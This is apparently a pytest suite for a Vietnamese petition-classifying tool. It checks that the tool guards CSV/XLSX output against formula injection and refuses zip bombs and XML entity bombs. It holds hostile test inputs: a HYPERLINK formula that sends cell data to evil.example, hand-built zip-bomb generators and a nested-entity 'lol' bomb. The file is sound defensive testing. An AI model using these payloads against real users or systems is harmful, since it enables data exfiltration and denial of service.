"""Safe to open, safe to load (issue 20): no formulas from input text, no code from a model
file, no memory eaten by a small archive."""

from __future__ import annotations

import io
import zipfile

import pandas as pd
import pytest

from conftest import SAMPLE_XLSX
from petition_nlp.files.io import InputError
from petition_nlp.files.safefiles import (
    MAX_SHEET_CELLS,
    check_archive,
    guard_cell,
    guard_frame,
    parse_xml,
    unguard_cell,
    unguard_frame,
)

# The strings of issue 20, and the other characters a spreadsheet evaluates.
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây") đề nghị tăng lương',
    "=1+2 đề nghị công ty đóng BHXH đầy đủ",
    "+84 912 345 678 hỏi về nhà ở xã hội",
    "- Đề nghị công đoàn mở lớp học nghề hàn",
    "@SUM(A1:A3) kiến nghị về an ninh khu trọ",
    "\tđề nghị sửa đường vào khu công nghiệp",
    "\rđề nghị tăng ca có phụ cấp",
    "'=đã có dấu nháy ở đầu",
    "''+hai dấu nháy",
    "'bình thường có dấu nháy",
]


# ----------------------------------------------------------------------------- formula guard
@pytest.mark.parametrize("text", FORMULA_TEXTS + ["bình thường", "", "'", "a=b", "-", "=", "5", "-5"])
def test_guard_round_trips_every_string(text: str) -> None:
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    assert not guarded or guarded[0] not in "=+-@\t\r"


def test_guard_follows_owasp() -> None:
    assert guard_cell("=1+2") == "'=1+2"
    assert guard_cell("@x") == "'@x"
    assert guard_cell("\tx") == "'\tx"
    assert guard_cell("bình thường") == "bình thường"
    assert guard_cell("'bình thường") == "'bình thường"  # not touched, and unguard leaves it too
    assert unguard_cell("'bình thường") == "'bình thường"
    assert guard_cell(-5) == -5 and guard_cell(None) is None


def test_guard_frame_cells_and_headers() -> None:
    frame = pd.DataFrame(
        {
            "=cột": FORMULA_TEXTS[:3] + [None],
            "n": [-1, 2, 3, 4],
            "code": pd.Categorical(["-x", "y", "-x", "z"]),
            "s": pd.array(["=a", "b", pd.NA, "+c"], dtype="string"),
        }
    )
    guarded = guard_frame(frame)
    assert list(guarded.columns) == ["'=cột", "n", "code", "s"]
    assert guarded["'=cột"].iloc[0].startswith("'=HYPERLINK")
    assert guarded["n"].tolist() == [-1, 2, 3, 4]
    assert list(guarded["code"].cat.categories) == ["'-x", "y", "z"]
    assert guarded["s"].iloc[3] == "'+c" and pd.isna(guarded["s"].iloc[2])
    assert frame["=cột"].iloc[0].startswith("=")  # the input frame is not modified
    back = unguard_frame(guarded)
    pd.testing.assert_frame_equal(back, frame)


# ----------------------------------------------------------------------------- archives
def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.skipif(not SAMPLE_XLSX.exists(), reason="sample survey not built")
def test_check_archive_accepts_a_real_workbook() -> None:
    check_archive(SAMPLE_XLSX.read_bytes(), SAMPLE_XLSX)


def test_check_archive_ignores_non_zip_bytes() -> None:
    check_archive(b"STT,text\n1,abc\n", "a.csv")
    check_archive(b"PK\x03\x04garbage", "broken.xlsx")


def test_check_archive_refuses_high_ratio_member() -> None:
    raw = _zip({"xl/worksheets/sheet1.xml": b"\0" * (50 * 1024**2)})
    with pytest.raises(InputError, match=r"bomb\.xlsx: member .* inflates [\d,]+x \(limit 200x\)"):
        check_archive(raw, "bomb.xlsx")


def test_check_archive_refuses_nested_archive_and_dtd() -> None:
    inner = _zip({"a.txt": b"hello"})
    with pytest.raises(InputError, match="nested archives are refused"):
        check_archive(_zip({"xl/workbook.xml": b"<workbook/>", "xl/other.zip": inner}), "n.xlsx")
    # an embedded object (a chart's workbook inside a Word file) is never opened: allowed
    check_archive(_zip({"word/document.xml": b"<w/>", "word/embeddings/chart.xlsx": inner}), "ok.docx")
    dtd = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    with pytest.raises(InputError, match="declares XML entities"):
        check_archive(_zip({"xl/sharedStrings.xml": dtd}), "dtd.xlsx")


def test_check_archive_refuses_too_many_members() -> None:
    raw = _zip({f"f{i}.txt": b"" for i in range(5_001)}, zipfile.ZIP_STORED)
    with pytest.raises(InputError, match="5,001 members"):
        check_archive(raw, "many.xlsx")


def test_check_archive_refuses_giant_sheet_ranges() -> None:
    sheet = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c>'
        b"</row></sheetData></worksheet>"
    )
    with pytest.raises(InputError, match=r"spans 1,048,576 rows x 16,384 columns"):
        check_archive(_zip({"xl/worksheets/sheet1.xml": sheet}), "wide.xlsx")
    far = sheet.replace(b'<dimension ref="A1:XFD1048576"/>', b'<dimension ref="A1"/>').replace(
        b"</row>", b'</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )
    with pytest.raises(InputError, match="spans"):
        check_archive(_zip({"xl/worksheets/sheet1.xml": far}), "far.xlsx")
    small = sheet.replace(b"A1:XFD1048576", b"A1:T1000")
    check_archive(_zip({"xl/worksheets/sheet1.xml": small}), "fine.xlsx")
    assert 1000 * 20 < MAX_SHEET_CELLS


def test_check_archive_bounds_ods_repeats() -> None:
    content = (
        b'<?xml version="1.0"?><office:document-content><table:table>'
        b'<table:table-row table:number-rows-repeated="1048576">'
        b'<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        b"</table:table-cell></table:table-row></table:table></office:document-content>"
    )
    with pytest.raises(InputError, match="repeats cells"):
        check_archive(_zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content}), "r.ods")
    normal = content.replace(b'table:number-columns-repeated="16384" ', b"")  # LibreOffice's empty tail
    check_archive(_zip({"content.xml": normal}), "ok.ods")


def test_parse_xml_refuses_entities() -> None:
    assert parse_xml(b"<a><b>1</b></a>").find("b").text == "1"
    with pytest.raises(Exception, match="(?i)dtd|entit"):
        parse_xml(b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')


# ----------------------------------------------------------------------------- text stays text
def _all_cells(path):
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [(ws.title, cell) for ws in wb for row in ws.iter_rows() for cell in row]


@pytest.fixture(scope="module")
def formula_input(tmp_path_factory, corpus):
    """A survey (.xlsx, text cells) whose petitions start with what spreadsheets evaluate."""
    import openpyxl

    base = corpus.groupby("label").sample(3, random_state=1)["text"].tolist()
    texts = FORMULA_TEXTS + base
    units = ["=CĐCS Công ty A", "+Đơn vị B"] + ["CĐCS Công ty C"] * (len(texts) - 2)
    frame = pd.DataFrame({"STT": range(1, len(texts) + 1), "Đơn vị": units, "Nội dung kiến nghị": texts})
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(frame.columns))
    for row in frame.itertuples(index=False):
        ws.append(list(row))
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"  # typed as text by the officer, as Excel stores it
    path = tmp_path_factory.mktemp("formula") / "survey.xlsx"
    wb.save(path)
    return path, frame


@pytest.mark.parametrize("command", [("classify",), ("shortlist", "-n", "5"), ("suggest", "-n", "5")])
def test_xlsx_output_never_holds_a_formula(formula_input, tmp_path, command) -> None:
    from conftest import run_cli

    path, frame = formula_input
    out = tmp_path / "out.xlsx"
    result = run_cli(*command, path, "-o", out)
    assert result.exit_code == 0, result.output
    cells = _all_cells(out)
    assert cells and not [(t, c.coordinate, c.value) for t, c in cells if c.data_type == "f"]
    shown = {c.value for _, c in cells if isinstance(c.value, str)}
    if command[0] == "classify":  # every petition, exactly as typed (the formula-like ones included)
        assert set(frame["Nội dung kiến nghị"]) <= shown
        assert {"=CĐCS Công ty A", "+Đơn vị B"} <= shown
    else:
        assert shown & set(frame["Nội dung kiến nghị"])


def test_csv_output_is_guarded_and_reads_back_exactly(formula_input, tmp_path) -> None:
    import csv

    from conftest import run_cli
    from petition_nlp.files.io import read_table

    path, frame = formula_input
    out = tmp_path / "out.csv"
    assert run_cli("classify", path, "-o", out).exit_code == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
    assert rows[1][2] == "'" + FORMULA_TEXTS[0]
    back, _ = read_table(out)
    assert back["Nội dung kiến nghị"].tolist() == frame["Nội dung kiến nghị"].tolist()
    assert back["Đơn vị"].tolist()[:2] == ["=CĐCS Công ty A", "+Đơn vị B"]
    # the switch turns it off (for tools that read the CSV as plain data)
    raw = tmp_path / "raw.csv"
    assert run_cli("classify", path, "-o", raw, "--no-formula-guard").exit_code == 0
    with open(raw, encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1][2] == FORMULA_TEXTS[0]
    assert run_cli("shortlist", path, "-n", "5", "-o", tmp_path / "s.csv").exit_code == 0
    assert run_cli("suggest", path, "-n", "5", "-o", tmp_path / "g.csv", "--no-formula-guard").exit_code == 0


def test_write_table_api_guard_switch(tmp_path) -> None:
    from petition_nlp.files.io import read_table, write_table

    frame = pd.DataFrame({"text": FORMULA_TEXTS, "n": range(len(FORMULA_TEXTS))})
    write_table(frame, tmp_path / "g.csv")
    write_table(frame, tmp_path / "r.csv", formula_guard=False)
    import csv

    for name, first in (("g.csv", "'" + FORMULA_TEXTS[0]), ("r.csv", FORMULA_TEXTS[0])):
        with open(tmp_path / name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert rows[1][0] == first and len(rows) == len(FORMULA_TEXTS) + 1  # "\r" cells quoted, not split
    assert read_table(tmp_path / "g.csv")[0]["text"].tolist() == FORMULA_TEXTS
    write_table(frame, tmp_path / "plain.xlsx")  # no formatted writer: still text only
    assert not [c for _, c in _all_cells(tmp_path / "plain.xlsx") if c.data_type == "f"]
    assert read_table(tmp_path / "plain.xlsx")[0]["text"].tolist() == FORMULA_TEXTS


def test_classify_edit_train_round_trips_the_exact_text(formula_input, tmp_path, corpus) -> None:
    """classify -o .csv, an officer fills a label column in the CSV, train reads exactly the typed text."""
    import csv

    from conftest import run_cli
    from petition_nlp.model.training import load_labeled

    path, frame = formula_input
    out = tmp_path / "classified.csv"
    assert run_cli("classify", path, "-o", out).exit_code == 0
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    # the officer's edit: a label on every row (the model's code, or "other" where it gave none)
    rows = [header + ["label"]] + [r + [r[header.index("category")] or "other"] for r in rows[1:]]
    # more labelled rows so that training has every code
    extra = corpus.groupby("label").sample(12, random_state=2)
    for text, label in zip(extra["text"], extra["label"]):
        rows.append(["", "", text] + [""] * (len(header) - 3) + [label])
    edited = tmp_path / "edited.csv"
    with open(edited, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    data = load_labeled([edited], text_column="Nội dung kiến nghị", label_column="label")
    assert set(frame["Nội dung kiến nghị"]) <= set(data.texts)
    result = run_cli("train", edited, "--only", "--text-column", "Nội dung kiến nghị", "--label-column", "label", "--output", tmp_path / "m")
    assert result.exit_code == 0, result.output


def test_illegal_xml_characters_do_not_crash_the_workbook(tmp_path) -> None:
    from conftest import run_cli

    src = tmp_path / "ctl.csv"
    src.write_text('STT,text\n1,"đề nghị\x0btăng lương"\n2,"=1+2 đề nghị công ty đóng BHXH"\n', encoding="utf-8")
    out = tmp_path / "ctl.xlsx"
    result = run_cli("classify", src, "-o", out)
    assert result.exit_code == 0, result.output
    shown = {c.value for _, c in _all_cells(out)}
    assert "đề nghị\ufffdtăng lương" in shown and "=1+2 đề nghị công ty đóng BHXH" in shown


# ----------------------------------------------------------------------------- bombs through the readers
def _zeros_deflated(total: int, block: int = 16 << 20) -> tuple[bytes, int]:
    """A raw deflate stream of ``total`` zero bytes, built in milliseconds: one block compressed
    with a full flush (which resets the compressor) repeated; returns (stream, crc32)."""
    import zlib

    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * block
    segment = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(total // block):
        crc = zlib.crc32(chunk, crc)
    return segment * (total // block) + comp.flush(zlib.Z_FINISH), crc


def _zip_with_bomb(normal: dict[str, bytes], bomb_name: str, total: int) -> bytes:
    """A zip holding ``normal`` members and one member inflating to ``total`` bytes (by hand:
    zipfile cannot store a stream compressed beforehand)."""
    import struct
    import zlib

    data, crc = _zeros_deflated(total)
    entries = []
    for name, content in normal.items():
        comp = zlib.compressobj(6, zlib.DEFLATED, -15)
        entries.append((name, comp.compress(content) + comp.flush(), zlib.crc32(content), len(content)))
    entries.append((bomb_name, data, crc, total))
    out, central = io.BytesIO(), io.BytesIO()
    for name, payload, crc32, size in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc32, len(payload), size, len(encoded), 0))
        out.write(encoded + payload)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc32, len(payload), size,
                                  len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(central.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central.getvalue()), start, 0))
    return out.getvalue()


def _small_xlsx() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["STT", "Nội dung kiến nghị"])
    ws.append([1, "Đề nghị công ty đóng BHXH đầy đủ cho công nhân"])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _members(raw: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _refused_fast(path, match: str) -> None:
    """read_table refuses ``path`` with one line matching ``match``, in < 1 s, memory flat."""
    import time
    import tracemalloc

    from petition_nlp.files.io import read_table

    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(InputError, match=match) as caught:
            read_table(path)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    message = str(caught.value)
    assert "\n" not in message and str(path) in message
    assert elapsed < 1.0, elapsed
    assert peak < 64 * 1024**2 + 4 * path.stat().st_size, peak  # the file itself and a little more


GB = 1024**3


def test_xlsx_zip_bomb_is_refused_fast(tmp_path) -> None:
    members = _members(_small_xlsx())
    sheet = "xl/worksheets/sheet1.xml"
    members.pop(sheet)
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_zip_with_bomb(members, sheet, 2 * GB))
    assert path.stat().st_size < 3 * 1024**2  # ~2 MB on disk, 2 GB inflated
    _refused_fast(path, "inflates .*refused as a possible zip bomb")


@pytest.mark.parametrize(
    "suffix, bomb_member, normal",
    [
        (".ods", "content.xml", {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        (".docx", "word/document.xml", {"[Content_Types].xml": b'<?xml version="1.0"?><Types/>'}),
    ],
)
def test_ods_and_docx_zip_bombs_are_refused_fast(tmp_path, suffix, bomb_member, normal) -> None:
    from petition_nlp.files.io import READ_EXTENSIONS

    if suffix not in READ_EXTENSIONS:
        pytest.skip(f"{suffix} is not read by this version")
    path = tmp_path / f"bomb{suffix}"
    path.write_bytes(_zip_with_bomb(normal, bomb_member, 1 * GB))
    _refused_fast(path, "refused as a possible zip bomb")


def test_total_size_limit(monkeypatch) -> None:
    from petition_nlp.files import safefiles

    raw = _small_xlsx()
    monkeypatch.setattr(safefiles, "MAX_TOTAL_BYTES", 1000)
    with pytest.raises(InputError, match=r"inflates to .* \(limit"):
        check_archive(raw, "t.xlsx")


def test_entity_bomb_in_a_sheet_is_refused(tmp_path) -> None:
    members = _members(_small_xlsx())
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    head, body = sheet.split("?>", 1) if sheet.startswith("<?xml") else ('<?xml version="1.0"', sheet)
    doctype = "<!DOCTYPE worksheet [" + "".join(lol) + "]>"
    body = body.replace("<v>1</v>", "<v>&lol9;</v>", 1)
    members["xl/worksheets/sheet1.xml"] = (head + "?>" + doctype + body).encode()
    path = tmp_path / "lol.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    _refused_fast(path, "declares XML entities")


def test_sheet_claiming_a_million_columns_is_refused(tmp_path) -> None:
    members = _members(_small_xlsx())
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    assert '<dimension ref="A1:B2"/>' in sheet
    members["xl/worksheets/sheet1.xml"] = sheet.replace('<dimension ref="A1:B2"/>', '<dimension ref="A1:XFD1048576"/>').encode()
    path = tmp_path / "wide.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    _refused_fast(path, r"spans 1,048,576 rows x 16,384 columns")


def test_bombs_exit_2_with_one_line_through_the_cli(tmp_path) -> None:
    from conftest import run_cli

    members = _members(_small_xlsx())
    sheet = "xl/worksheets/sheet1.xml"
    members.pop(sheet)
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_zip_with_bomb(members, sheet, 1 * GB))
    result = run_cli("classify", path)
    assert result.exit_code == 2
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "zip bomb" in errors[0]


def test_a_zip_needing_an_unknown_zip_version_is_a_one_line_error(tmp_path) -> None:
    """Found by tests/test_fuzz.py: a mutated workbook whose central directory asks for zip
    version 20.3 made zipfile raise NotImplementedError from inside check_archive."""
    from petition_nlp.files.io import read_table

    raw = bytearray(SAMPLE_XLSX.read_bytes())
    at = raw.find(b"PK\x01\x02")  # first central-directory entry: version made by, version needed
    raw[at + 6 : at + 8] = (203).to_bytes(2, "little")
    path = tmp_path / "odd_version.xlsx"
    path.write_bytes(bytes(raw))
    check_archive(bytes(raw), path)  # not an archive it can read: left to the reader
    with pytest.raises(InputError) as err:
        read_table(path)
    assert "odd_version.xlsx" in str(err.value) and "\n" not in str(err.value)
